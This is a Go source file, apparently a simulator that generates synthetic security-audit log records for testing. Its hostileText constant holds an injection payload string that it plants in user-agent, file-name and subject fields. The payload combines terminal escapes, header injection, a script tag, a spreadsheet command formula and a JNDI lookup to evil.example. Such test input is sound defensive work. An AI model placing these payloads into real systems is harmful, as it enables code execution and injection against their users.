@@ -1,0 +1,257 @@
+package simulator
+
+import (
+	"fmt"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// The slots that records may have. {{name:argument}} takes an argument; {{name#…}} tells two uses
+// apart that would otherwise agree.
+
+// slotFiller compiles one slot: a name, and behind a colon its argument. A
+// "#…" suffix of the name tells two uses apart that would otherwise agree.
+func slotFiller(slot string) filler {
+	name, arg, _ := strings.Cut(slot, ":")
+	base, _, _ := strings.Cut(name, "#")
+	key := textHash(slot)
+	if build, ok := parametric[base]; ok {
+		return build(arg, key)
+	}
+	if f, ok := plain[base]; ok {
+		return f
+	}
+	panic(fmt.Sprintf("simulator: unknown slot %q", slot))
+}
+
+func textHash(s string) uint64 {
+	h := uint64(14695981039346656037)
+	for i := range len(s) {
+		h = (h ^ uint64(s[i])) * 1099511628211
+	}
+	return mix(h)
+}
+
+func text(get func(r *record) string) filler {
+	return func(dst []byte, r *record) []byte { return append(dst, get(r)...) }
+}
+
+// parametric slots take an argument, and a key for their randomness.
+var parametric = map[string]func(arg string, key uint64) filler{
+	"pick": func(arg string, key uint64) filler { // one of a|b|c
+		choices := strings.Split(arg, "|")
+		return func(dst []byte, r *record) []byte {
+			return append(dst, choices[mix(r.seed^key)%uint64(len(choices))]...)
+		}
+	},
+	"step": func(arg string, _ uint64) filler { // one of a|b|c, in step with other steps of the record
+		choices := strings.Split(arg, "|")
+		return func(dst []byte, r *record) []byte { return append(dst, choices[r.rank%uint64(len(choices))]...) }
+	},
+	"guid": func(_ string, key uint64) filler {
+		return func(dst []byte, r *record) []byte { return randomGUID(dst, r.seed^key) }
+	},
+	"fixed": func(_ string, key uint64) filler { // a GUID that is the same in all records of the tenant
+		return func(dst []byte, r *record) []byte { return randomGUID(dst, r.w.seed^key) }
+	},
+	"hex": func(arg string, key uint64) filler {
+		n, _ := strconv.Atoi(arg)
+		return func(dst []byte, r *record) []byte {
+			for left := n; left > 0; left -= 16 {
+				dst = appendHex(dst, mix(r.seed^key^uint64(left)), min(left, 16))
+			}
+			return dst
+		}
+	},
+	"num": func(arg string, key uint64) filler { // lo-hi
+		a, b, _ := strings.Cut(arg, "-")
+		lo, _ := strconv.ParseUint(a, 10, 64)
+		hi, _ := strconv.ParseUint(b, 10, 64)
+		return func(dst []byte, r *record) []byte { return strconv.AppendUint(dst, lo+mix(r.seed^key)%(hi-lo+1), 10) }
+	},
+	"n": func(arg string, _ uint64) filler { // a number that oddity writes as text
+		return func(dst []byte, r *record) []byte {
+			if r.odd&oddNumbers != 0 {
+				dst = append(dst, '"')
+				dst = append(dst, arg...)
+				return append(dst, '"')
+			}
+			return append(dst, arg...)
+		}
+	},
+	"type": func(arg string, key uint64) filler { // RecordType
+		return func(dst []byte, r *record) []byte {
+			if r.odd&oddType != 0 {
+				return strconv.AppendUint(dst, 400+mix(r.seed^key)%300, 10)
+			}
+			if r.odd&oddNumbers != 0 {
+				return append(append(append(dst, '"'), arg...), '"')
+			}
+			return append(dst, arg...)
+		}
+	},
+	"risk": func(arg string, _ uint64) filler { // hidden without the licence
+		return func(dst []byte, r *record) []byte {
+			if r.hidden {
+				return append(dst, "hidden"...)
+			}
+			return append(dst, arg...)
+		}
+	},
+	"ago": func(arg string, key uint64) filler { // up to so many seconds before the event, zone-less
+		n, _ := strconv.ParseUint(arg, 10, 64)
+		return func(dst []byte, r *record) []byte {
+			return r.at.Add(-time.Duration(mix(r.seed^key)%(n+1))*time.Second).AppendFormat(dst, "2006-01-02T15:04:05")
+		}
+	},
+	"base64": func(arg string, key uint64) filler {
+		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+		n, _ := strconv.Atoi(arg)
+		return func(dst []byte, r *record) []byte {
+			h := mix(r.seed ^ key)
+			for i := range n {
+				if i%10 == 9 {
+					h = mix(h)
+				}
+				dst = append(dst, alphabet[h>>(6*(i%10))&63])
+			}
+			return dst
+		}
+	},
+}
+
+// state is what a row has become after so many rewritings.
+func state(r *record, states ...string) string { return states[r.version%len(states)] }
+
+// hostileText, as it stands in JSON, tries a terminal, a log, a header, a page,
+// a spreadsheet, and decoders of text.
+const hostileText = `\u001b[31m\u001b]0;pwned\u0007\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>=cmd|' /C calc'!A0 ${jndi:ldap://evil.example/a} \u202e\u0000\ud83d\ude00`
+
+func quoted(dst []byte, s string) []byte { return append(append(append(dst, '"'), s...), '"') }
+
+func (r *record) port() uint64 { return 49152 + mix(r.seed^0x9047)%16000 }
+
+// plain slots take no argument.
+var plain = map[string]filler{
+	"id":    func(dst []byte, r *record) []byte { return append(dst, r.guid[:]...) },
+	"time":  func(dst []byte, r *record) []byte { return append(dst, r.stamp[:]...) },
+	"timez": func(dst []byte, r *record) []byte { return append(append(dst, r.stamp[:]...), 'Z') },
+	"time7": func(dst []byte, r *record) []byte { return r.at.AppendFormat(dst, "2006-01-02T15:04:05.0000000Z") },
+	"made7": func(dst []byte, r *record) []byte { return r.created.AppendFormat(dst, "2006-01-02T15:04:05.0000000Z") },
+	"madez": func(dst []byte, r *record) []byte { return r.created.AppendFormat(dst, "2006-01-02T15:04:05Z") },
+	"activity7": func(dst []byte, r *record) []byte {
+		return r.activity.AppendFormat(dst, "2006-01-02T15:04:05.0000000Z")
+	},
+	"detected7": func(dst []byte, r *record) []byte {
+		return r.detected.AppendFormat(dst, "2006-01-02T15:04:05.0000000Z")
+	},
+	"sensitive": func(dst []byte, r *record) []byte { return strconv.AppendBool(dst, r.sensitive) },
+	"detections": func(dst []byte, r *record) []byte {
+		if !r.sensitive {
+			return dst
+		}
+		return append(dst, `,"SensitiveInformationDetections":{"DetectedValues":[{"Name":"4111 1111 1111 1111","Value":"Card number 4111 1111 1111 1111 exp 09/31"}],"ResultsTruncated":false}`...)
+	},
+	"rowid":     text(func(r *record) string { return r.rowID }),
+	"riskstate": text(func(r *record) string { return state(r, "atRisk", "confirmedCompromised", "remediated", "dismissed") }),
+	"riskdetail": text(func(r *record) string {
+		return state(r, "none", "adminConfirmedUserCompromised", "userPerformedSecuredPasswordReset", "adminDismissedAllRiskForUser")
+	}),
+	"alertstate":    text(func(r *record) string { return state(r, "new", "inProgress", "resolved") }),
+	"incidentstate": text(func(r *record) string { return state(r, "active", "inProgress", "resolved") }),
+
+	"tenant": text(func(r *record) string { return r.w.tenant }),
+	"domain": text(func(r *record) string { return r.w.domain }),
+
+	"user":       text(func(r *record) string { return r.user.upn }),
+	"name":       text(func(r *record) string { return r.user.name }),
+	"slug":       text(func(r *record) string { return r.user.slug }),
+	"oid":        text(func(r *record) string { return r.user.oid }),
+	"puid":       text(func(r *record) string { return r.user.puid }),
+	"sid":        text(func(r *record) string { return r.user.sid }),
+	"mailbox":    text(func(r *record) string { return r.user.mailbox }),
+	"department": text(func(r *record) string { return r.user.department }),
+	"device":     text(func(r *record) string { return r.user.device }),
+	"deviceid":   text(func(r *record) string { return r.user.deviceID }),
+	"os":         text(func(r *record) string { return r.user.os }),
+	"browser":    text(func(r *record) string { return r.user.browser }),
+	"agent": func(dst []byte, r *record) []byte {
+		if r.hostile {
+			return append(dst, hostileText...)
+		}
+		return append(dst, r.user.agent...)
+	},
+	"asn": text(func(r *record) string { return r.user.asn }),
+
+	"other":     text(func(r *record) string { return r.other.upn }),
+	"othername": text(func(r *record) string { return r.other.name }),
+	"otheroid":  text(func(r *record) string { return r.other.oid }),
+	"otherpuid": text(func(r *record) string { return r.other.puid }),
+
+	"robot":     text(func(r *record) string { return r.robot.name }),
+	"robotapp":  text(func(r *record) string { return r.robot.appID }),
+	"robotoid":  text(func(r *record) string { return r.robot.objectID }),
+	"robotkey":  text(func(r *record) string { return r.robot.keyID }),
+	"robotpath": text(func(r *record) string { return r.robot.resource }),
+	"app":       text(func(r *record) string { return r.app.name }),
+	"appid":     text(func(r *record) string { return r.app.appID }),
+	"appoid":    text(func(r *record) string { return r.app.objectID }),
+
+	"city":    text(func(r *record) string { return r.place.name }),
+	"state":   text(func(r *record) string { return r.place.state }),
+	"country": text(func(r *record) string { return r.place.country }),
+	"lat":     text(func(r *record) string { return r.place.lat }),
+	"lon":     text(func(r *record) string { return r.place.lon }),
+
+	"bareip": text(func(r *record) string { return r.ip }),
+	"ip": func(dst []byte, r *record) []byte { // a whole JSON value
+		switch {
+		case r.odd&oddNullIP != 0:
+			return append(dst, "null"...)
+		case r.odd&oddPort != 0:
+			return append(appendHostPort(append(dst, '"'), r), '"')
+		}
+		return quoted(dst, r.ip)
+	},
+	"ipport": func(dst []byte, r *record) []byte { return appendHostPort(dst, r) },
+
+	"file": func(dst []byte, r *record) []byte {
+		if r.hostile {
+			dst = append(dst, hostileText...)
+		}
+		h := mix(r.seed ^ 0xf11e)
+		dst = append(dst, fileNames[h%uint64(len(fileNames))]...)
+		dst = append(dst, ' ')
+		dst = strconv.AppendUint(dst, h>>16%400, 10)
+		dst = append(dst, '.')
+		return append(dst, fileExtensions[h>>40%uint64(len(fileExtensions))]...)
+	},
+	"ext": func(dst []byte, r *record) []byte {
+		return append(dst, fileExtensions[mix(r.seed^0xf11e)>>40%uint64(len(fileExtensions))]...)
+	},
+	"site": func(dst []byte, r *record) []byte {
+		return append(dst, siteNames[mix(r.seed^0x517e)%uint64(len(siteNames))]...)
+	},
+	"team": func(dst []byte, r *record) []byte {
+		return append(dst, teamNames[mix(r.seed^0x7ea4)%uint64(len(teamNames))]...)
+	},
+	"teamid": func(dst []byte, r *record) []byte {
+		return appendHex(dst, mix(r.w.seed^mix(r.seed^0x7ea4)%uint64(len(teamNames))), 16)
+	},
+	"subject": func(dst []byte, r *record) []byte {
+		if r.hostile {
+			dst = append(dst, hostileText...)
+		}
+		return append(dst, subjects[mix(r.seed^0x5b9)%uint64(len(subjects))]...)
+	},
+}
+
+func appendHostPort(dst []byte, r *record) []byte {
+	if strings.Contains(r.ip, ":") {
+		dst = append(append(append(dst, '['), r.ip...), ']')
+	} else {
+		dst = append(dst, r.ip...)
+	}
+	return strconv.AppendUint(append(dst, ':'), r.port(), 10)
+}
